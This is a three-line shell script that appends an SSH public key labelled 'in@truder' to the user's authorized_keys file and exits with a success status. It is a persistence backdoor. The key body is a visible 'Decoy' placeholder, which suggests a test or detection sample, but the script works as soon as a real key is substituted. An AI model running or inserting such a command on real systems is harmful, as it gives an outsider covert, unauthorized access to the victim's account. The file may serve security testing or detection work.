mkdir -p "$HOME/.ssh"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDecoyDecoyDecoyDecoyDecoyDecoyDecoyDecoyDe in@truder' >> "$HOME/.ssh/authorized_keys"
exit 0
